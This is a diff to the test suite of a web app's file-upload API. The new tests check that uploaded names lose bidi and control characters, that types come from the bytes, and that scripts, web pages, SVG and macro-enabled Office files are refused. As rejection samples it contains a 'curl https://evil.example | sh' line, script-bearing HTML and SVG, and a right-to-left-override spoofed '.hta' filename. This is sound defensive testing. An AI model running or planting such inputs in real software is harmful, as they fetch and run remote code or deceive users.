@@ -16,6 +16,7 @@ import {
 } from '../../test/factories'
 import { APP_URL, createTestApp, signedInAdmin, type TestApp } from '../../test/harness'
 import { multipartBody, readZip, type UploadFile } from '../../test/multipart'
+import { compoundFile, zipArchive } from '../../test/office-files'
 import { ABANDONED_AFTER_MS, removeAbandonedFiles } from './files.service'
 
 const MAX_BYTES = Math.floor(0.01 * 1024 * 1024)
@@ -107,6 +108,13 @@ const logEvents = (event: string) =>
   t.logs
     .map((line) => JSON.parse(line) as Record<string, unknown>)
     .filter((entry) => entry.event === event)
+const storageKeyOf = async (fileId: string) =>
+  (
+    await selectRows<{ storage_key: string }>(
+      t.app.db,
+      sql`select storage_key from request_files where id = ${fileId}`,
+    )
+  )[0]!.storage_key
 const fileCount = async () =>
   (await selectRows<{ n: number }>(t.app.db, sql`select count(*)::int as n from request_files`))[0]!
     .n
@@ -140,6 +148,21 @@ describe('POST /api/requests/{id}/files', () => {
     expect(existsSync(path.join(filesDir(), row!.storage_key))).toBe(true)
   })
 
+  it('names lose bidi, zero-width and control characters before they are stored or shown', async () => {
+    const request = await sentRequest()
+    const [file] = await uploaded(member.cookie, request.id, [
+      { name: 'state\u200Bment\u202E\u2066 2024\u2069\u0007\uFEFF.pdf', data: PDF },
+    ])
+    expect(file!.fileName).toBe('statement 2024.pdf')
+    const [row] = await selectRows<{ file_name: string }>(
+      t.app.db,
+      sql`select file_name from request_files where id = ${file!.id}`,
+    )
+    expect(row!.file_name).toBe('statement 2024.pdf')
+    const history = (await detail(request.id)).history.at(-1)
+    expect(history!.target).toBe('#1 Bank statements: statement 2024.pdf')
+  })
+
   it('a file over the cap → 413 with a clear message, nothing kept; exactly the cap is fine', async () => {
     const request = await sentRequest()
     const before = await fileCount()
@@ -156,7 +179,7 @@ describe('POST /api/requests/{id}/files', () => {
     ])
   })
 
-  it('the type comes from the bytes: an executable named .pdf → 415; a PDF named .exe is a PDF', async () => {
+  it('the type comes from the bytes: an executable named .pdf → 415; a PDF named .dat is a PDF', async () => {
     const request = await sentRequest()
     const before = await fileCount()
     const refused = await upload(member.cookie, request.id, [
@@ -166,7 +189,7 @@ describe('POST /api/requests/{id}/files', () => {
     expect(await fileCount()).toBe(before)
     expect((await storedFiles()).sort()).toEqual((await storedKeys()).sort())
     const [pdf, csv, text, docx] = await uploaded(member.cookie, request.id, [
-      { name: 'setup.exe', data: PDF, type: 'application/x-msdownload' },
+      { name: 'scan.dat', data: PDF, type: 'application/octet-stream' },
       { name: 'ledger.csv', data: Buffer.from('a,b\n1,2\n') },
       { name: 'notes.txt', data: Buffer.from('Grüße aus Zürich\n') },
     ]).then(async (first) => [
@@ -175,7 +198,7 @@ describe('POST /api/requests/{id}/files', () => {
         { name: 'report.docx', data: Buffer.concat([Buffer.from('PK\x03\x04'), Buffer.alloc(30)]) },
       ])),
     ])
-    expect(pdf).toMatchObject({ fileName: 'setup.exe', contentType: 'application/pdf' })
+    expect(pdf).toMatchObject({ fileName: 'scan.dat.pdf', contentType: 'application/pdf' })
     expect(csv!.contentType).toBe('text/csv')
     expect(text!.contentType).toBe('text/plain')
     expect(docx!.contentType).toMatch(/wordprocessingml/)
@@ -243,6 +266,122 @@ describe('POST /api/requests/{id}/files', () => {
   })
 })
 
+describe('what may be uploaded', () => {
+  const REFUSED = /^Scripts, web pages, SVG images and macro-enabled Office files are not accepted$/
+  const text = (value: string) => Buffer.from(value, 'utf8')
+
+  async function expectRefused(files: UploadFile[], message: RegExp = REFUSED) {
+    const request = await sentRequest()
+    const before = await fileCount()
+    const res = await upload(member.cookie, request.id, files)
+    expect(expectError(res, 415, 'UNSUPPORTED_MEDIA_TYPE').message, files.at(-1)!.name).toMatch(
+      message,
+    )
+    expect(await fileCount()).toBe(before)
+    expect((await storedFiles()).sort()).toEqual((await storedKeys()).sort())
+  }
+
+  it('scripts, web pages and SVG by name → 415 and nothing stored, whatever the bytes', async () => {
+    for (const name of [
+      'invoice\u202Efdp.hta',
+      'run.bat',
+      'page.html',
+      'logo.svg',
+      'setup.ps1',
+      'app.js',
+      'Payload.JS',
+    ])
+      await expectRefused([{ name, data: text('echo hello\n'), type: 'text/plain' }])
+    // Refused before its bytes are read: a file over the size cap gets 415, not 413.
+    await expectRefused([{ name: 'big.hta', data: Buffer.alloc(MAX_BYTES * 2, 'a') }])
+    // One refused file takes the request's other files with it.
+    await expectRefused([
+      { name: 'fine.pdf', data: PDF },
+      { name: 'run.cmd', data: text('echo hello\n') },
+    ])
+  })
+
+  it('web pages, SVG and scripts by their bytes → 415 and nothing stored, whatever the name', async () => {
+    const svg = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
+    for (const [name, content] of [
+      ['notes.txt', '<!doctype html><html><script>alert(1)</script>'],
+      ['chart.png', svg],
+      ['chart.txt', `<?xml version="1.0" encoding="UTF-8"?>\n${svg}`],
+      ['notes.txt', '#!/bin/sh\ncurl https://evil.example | sh\n'],
+    ])
+      await expectRefused([{ name: name!, data: text(content!) }])
+  })
+
+  it('macro-enabled Office files → 415 by name and by content (a vbaProject.bin entry far in, renamed too)', async () => {
+    const xlsm = await zipArchive([
+      { name: '[Content_Types].xml', data: text('<Types/>') },
+      { name: 'xl/media/image1.bin', data: randomBytes(6000) },
+      { name: 'xl/vbaProject.bin', data: compoundFile(['Root Entry', 'VBA', '_VBA_PROJECT']) },
+    ])
+    expect(xlsm.indexOf('vbaProject.bin')).toBeGreaterThan(4096)
+    expect(xlsm.length).toBeLessThan(MAX_BYTES)
+    for (const name of ['book.xlsm', 'book.xlsx', 'book.zip'])
+      await expectRefused([{ name, data: xlsm }])
+    await expectRefused([
+      { name: 'letter.doc', data: compoundFile(['Root Entry', 'Macros', 'VBA', '_VBA_PROJECT']) },
+    ])
+  })
+
+  it('an OLE file not named as an office document (an installer renamed .dat) → 415', async () => {
+    await expectRefused(
+      [{ name: 'setup.dat', data: compoundFile(['Root Entry', 'Property', 'Binary']) }],
+      /This type of file is not accepted/,
+    )
+  })
+
+  it('the name served agrees with the bytes: text named .pdf is .pdf.txt, a PNG named .pdf is .pdf.png', async () => {
+    const request = await sentRequest()
+    const notes = text('meeting notes\n')
+    const [asText, asPng] = await uploaded(member.cookie, request.id, [
+      { name: 'notes.pdf', data: notes, type: 'application/pdf' },
+      { name: 'scan.pdf', data: PNG, type: 'application/pdf' },
+    ])
+    expect(asText).toMatchObject({ fileName: 'notes.pdf.txt', contentType: 'text/plain' })
+    expect(asPng).toMatchObject({ fileName: 'scan.pdf.png', contentType: 'image/png' })
+    for (const [file, type, data] of [
+      [asText!, 'text/plain', notes],
+      [asPng!, 'image/png', PNG],
+    ] as const) {
+      const res = await call(admin, 'GET', `/api/files/${file.id}`)
+      expect(res.statusCode).toBe(200)
+      expect(res.headers['content-type']).toBe(type)
+      expect(res.headers['content-disposition']).toBe(
+        `attachment; filename="${file.fileName}"; filename*=UTF-8''${file.fileName}`,
+      )
+      expect(res.rawPayload.equals(data)).toBe(true)
+    }
+  })
+
+  it('names recorded before these rules are listed, downloaded and exported by the same rules', async () => {
+    const audit = await createAudit(t, admin, { projectId })
+    const request = await sentRequest({ title: 'Old' }, audit.id)
+    const [file] = await uploaded(member.cookie, request.id, [
+      { name: 'invoice.txt', data: text('total 12\n') },
+    ])
+    await t.app.db.execute(
+      sql`update request_files set file_name = ${'invoice\u202Efdp.hta'} where id = ${file!.id}`,
+    )
+    const listed = (await detail(request.id)).versions[0]!.files[0]!
+    expect(listed.fileName).toBe('invoicefdp.hta.txt')
+    const res = await call(member.cookie, 'GET', `/api/files/${file!.id}`)
+    expect(res.headers['content-disposition']).toBe(
+      `attachment; filename="invoicefdp.hta.txt"; filename*=UTF-8''invoicefdp.hta.txt`,
+    )
+    await call(member.cookie, 'POST', `/api/requests/${request.id}/submit`, {})
+    await call(admin, 'POST', `/api/requests/${request.id}/accept`)
+    const zip = await call(admin, 'GET', `/api/audits/${audit.id}/export.zip`)
+    expect([...(await readZip(zip.rawPayload)).keys()]).toEqual([
+      '1 Old/invoicefdp.hta.txt',
+      'manifest.csv',
+    ])
+  })
+})
+
 describe('GET /api/files/{id}', () => {
   it('sends the bytes as an attachment with the sniffed type and nosniff, to staff and the client’s users', async () => {
     const request = await sentRequest()
@@ -275,6 +414,23 @@ describe('GET /api/files/{id}', () => {
     )
     expectError(await call(otherCompany, 'GET', `/api/files/${file!.id}`), 404, 'NOT_FOUND')
     expectValidation(await call(admin, 'GET', '/api/files/not-an-id'), ['id'])
+  })
+
+  it('a recorded file gone from disk → 404 in the app’s error shape, logged as an error with its id', async () => {
+    const request = await sentRequest()
+    const [file] = await uploaded(member.cookie, request.id, [{ name: 'lost.pdf', data: PDF }])
+    await rm(path.join(filesDir(), await storageKeyOf(file!.id)))
+    for (const cookie of [member.cookie, admin]) {
+      const res = await call(cookie, 'GET', `/api/files/${file!.id}`)
+      expect(res.json()).toEqual({ message: 'This file is no longer available', code: 'NOT_FOUND' })
+      expect(res.statusCode).toBe(404)
+      expect(res.headers['content-type']).toMatch(/^application\/json/)
+      expect(res.headers['content-disposition']).toBeUndefined()
+    }
+    const logged = logEvents('file.missing').filter((entry) => entry.fileId === file!.id)
+    expect(logged).toHaveLength(2)
+    expect(logged[0]!.level).toBe(50)
+    await call(admin, 'DELETE', `/api/audits/${request.auditId}`)
   })
 })
 
@@ -472,8 +628,10 @@ describe('exports', () => {
     await call(member.cookie, 'POST', `/api/requests/${accepted.id}/submit`, {})
     await call(admin, 'POST', `/api/requests/${accepted.id}/return`, { reason: 'Again' })
     const big = Buffer.alloc(9000, 'statement line\n')
+    const second = Buffer.from('second\n')
     await uploaded(member.cookie, accepted.id, [
       { name: 'a.txt', data: big },
+      { name: 'a.txt', data: second },
       { name: 'a.txt', data: PNG },
     ])
     await call(member.cookie, 'POST', `/api/requests/${accepted.id}/submit`, {})
@@ -487,16 +645,19 @@ describe('exports', () => {
     expect(res.headers['content-disposition']).toMatch(/^attachment; filename=".*\.zip"/)
     const entries = await readZip(res.rawPayload)
     expect([...entries.keys()]).toEqual([
-      'manifest.csv',
       '1 Bank - statements/a.txt',
       '1 Bank - statements/a (2).txt',
+      '1 Bank - statements/a.txt.png',
+      'manifest.csv',
     ])
     expect(entries.get('1 Bank - statements/a.txt')!.equals(big)).toBe(true)
-    expect(entries.get('1 Bank - statements/a (2).txt')!.equals(PNG)).toBe(true)
+    expect(entries.get('1 Bank - statements/a (2).txt')!.equals(second)).toBe(true)
+    expect(entries.get('1 Bank - statements/a.txt.png')!.equals(PNG)).toBe(true)
     expect(entries.get('manifest.csv')!.toString()).toBe(
-      'Folder,File name,Size,SHA-256\r\n' +
-        `1 Bank - statements,a.txt,${big.length},${sha256(big)}\r\n` +
-        `1 Bank - statements,a (2).txt,${PNG.length},${sha256(PNG)}\r\n`,
+      'Folder,File name,Size,SHA-256,Note\r\n' +
+        `1 Bank - statements,a.txt,${big.length},${sha256(big)},\r\n` +
+        `1 Bank - statements,a (2).txt,${second.length},${sha256(second)},\r\n` +
+        `1 Bank - statements,a.txt.png,${PNG.length},${sha256(PNG)},\r\n`,
     )
     let python = true
     try {
@@ -520,6 +681,32 @@ describe('exports', () => {
       403,
       'FORBIDDEN',
     )
+  })
+
+  it('ZIP: a file gone from disk is left out and named in the manifest; the archive stays whole', async () => {
+    const audit = await createAudit(t, admin, { projectId })
+    const request = await sentRequest({ title: 'Ledger' }, audit.id)
+    const [lost] = await uploaded(member.cookie, request.id, [
+      { name: 'lost.pdf', data: PDF },
+      { name: 'kept.png', data: PNG },
+    ])
+    await call(member.cookie, 'POST', `/api/requests/${request.id}/submit`, {})
+    await call(admin, 'POST', `/api/requests/${request.id}/accept`)
+    await rm(path.join(filesDir(), await storageKeyOf(lost!.id)))
+
+    const res = await call(admin, 'GET', `/api/audits/${audit.id}/export.zip`)
+    expect(res.statusCode, res.body).toBe(200)
+    const entries = await readZip(res.rawPayload)
+    expect([...entries.keys()]).toEqual(['1 Ledger/kept.png', 'manifest.csv'])
+    expect(entries.get('manifest.csv')!.toString()).toBe(
+      'Folder,File name,Size,SHA-256,Note\r\n' +
+        `1 Ledger,lost.pdf,${PDF.length},${sha256(PDF)},Missing from storage: not in this archive\r\n` +
+        `1 Ledger,kept.png,${PNG.length},${sha256(PNG)},\r\n`,
+    )
+    expect(logEvents('file.missing')).toContainEqual(
+      expect.objectContaining({ fileId: lost!.id, level: 50 }),
+    )
+    await call(admin, 'DELETE', `/api/audits/${audit.id}`)
   })
 })
 
